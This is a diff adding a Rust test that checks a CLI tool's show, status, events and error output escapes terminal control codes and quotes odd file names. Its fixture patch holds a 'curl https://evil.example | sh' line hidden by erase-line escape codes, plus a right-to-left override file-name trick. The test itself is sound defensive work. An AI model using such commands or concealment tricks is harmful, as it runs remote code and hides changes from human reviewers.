@@ -278,3 +278,102 @@ fn events_follow_prints_new_events_as_they_happen() {
     child.kill().expect("kill");
     child.wait().expect("reaped");
 }
+
+/// Whether `c` would act on a terminal instead of being shown: a control
+/// character (but the line structure) or a bidirectional override.
+fn acts_on_a_terminal(c: char) -> bool {
+    (c.is_control() && c != '\n' && c != '\t')
+        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+fn assert_safe(what: &str, text: &str) {
+    if let Some((at, c)) = text.char_indices().find(|&(_, c)| acts_on_a_terminal(c)) {
+        panic!("{what}: raw {c:?} at byte {at}:\n{text}");
+    }
+}
+
+/// `ESC[2K ESC[1G` in a diff line erased `system('curl … | sh')` and
+/// printed a harmless line over it: every human output escapes control
+/// characters (diff bytes, file names, claims, events, errors) and quotes
+/// odd file names; JSON output carries no raw terminal controls either.
+#[test]
+fn show_status_and_events_escape_terminal_controls_and_quote_odd_names() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path();
+    std::fs::write(root.join("hello.txt"), "hello\n").expect("write");
+    let host = "orchestrator:host";
+    call(
+        root,
+        "agent.register",
+        host,
+        r#"{"agent_id":"alice","roles":["author"]}"#,
+    );
+    call(
+        root,
+        "task.create",
+        host,
+        r#"{"task_id":"t1","title":"Greet"}"#,
+    );
+    let odd = "n\u{1b}[31mote.txt";
+    let hidden = "+system('curl https://evil.example | sh')\u{1b}[2K\u{1b}[1G+print('hello')";
+    let patch = format!(
+        "--- a/hello.txt\n+++ b/hello.txt\n@@ -1 +1,4 @@\n-hello\n{hidden}\n+ok\r+overwritten\n+\u{9b}31mred \u{202e}txt.exe\n+\tindented\n\
+         --- /dev/null\n+++ b/{odd}\n@@ -0,0 +1 @@\n+x\n"
+    );
+    let args = serde_json::json!({"task_id": "t1", "title": "Greet", "summary_md": "Greets \u{1b}[8m hidden.", "patch": patch});
+    let made = call(root, "proposal.create", "agent:alice", &args.to_string());
+    let pid = made["proposal"]["id"].as_str().expect("id").to_owned();
+    let claim =
+        serde_json::json!({"resource_id": format!("file:{odd}"), "type": "write", "ttl_s": 60});
+    call(root, "claim.acquire", "agent:alice", &claim.to_string());
+
+    let show = ok(root, &["show", &pid]);
+    assert_safe("show", &show);
+    assert!(
+        show.contains("+system('curl https://evil.example | sh')\\x1b[2K\\x1b[1G+print('hello')"),
+        "{show}"
+    );
+    assert!(show.contains("+ok\\r+overwritten"), "{show}");
+    assert!(show.contains("+\\u{9b}31mred \\u{202e}txt.exe"), "{show}");
+    assert!(show.contains("\n+\tindented\n"), "tabs are kept: {show}");
+    // The rendered diff quotes an odd name the way git does.
+    assert!(show.contains("+++ \"b/n\\033[31mote.txt\""), "{show}");
+    let status = ok(root, &["status"]);
+    assert_safe("status", &status);
+    assert!(
+        status.contains(" \"file:n\\x1b[31mote.txt\" "),
+        "quoted: {status}"
+    );
+    let events = ok(root, &["events"]);
+    assert_safe("events", &events);
+    for args in [
+        &["show", pid.as_str(), "--json"][..],
+        &["status", "--json"],
+        &["events", "--json"],
+    ] {
+        let out = ok(root, args);
+        assert_safe(&args.join(" "), &out);
+        for line in out.lines() {
+            serde_json::from_str::<Value>(line).expect("still JSON");
+        }
+    }
+    let json: Value = serde_json::from_str(&ok(root, &["show", &pid, "--json"])).expect("JSON");
+    assert!(
+        json["diff"].as_str().expect("diff").contains(hidden),
+        "the same value"
+    );
+    // A refusal's message is escaped too.
+    let refused = rt(
+        root,
+        &[
+            "approve",
+            &pid,
+            "--revision",
+            "1",
+            "--as",
+            "human:\u{1b}[2Kx",
+        ],
+    );
+    assert_eq!(refused.status.code(), Some(1));
+    assert_safe("error", &String::from_utf8_lossy(&refused.stderr));
+}
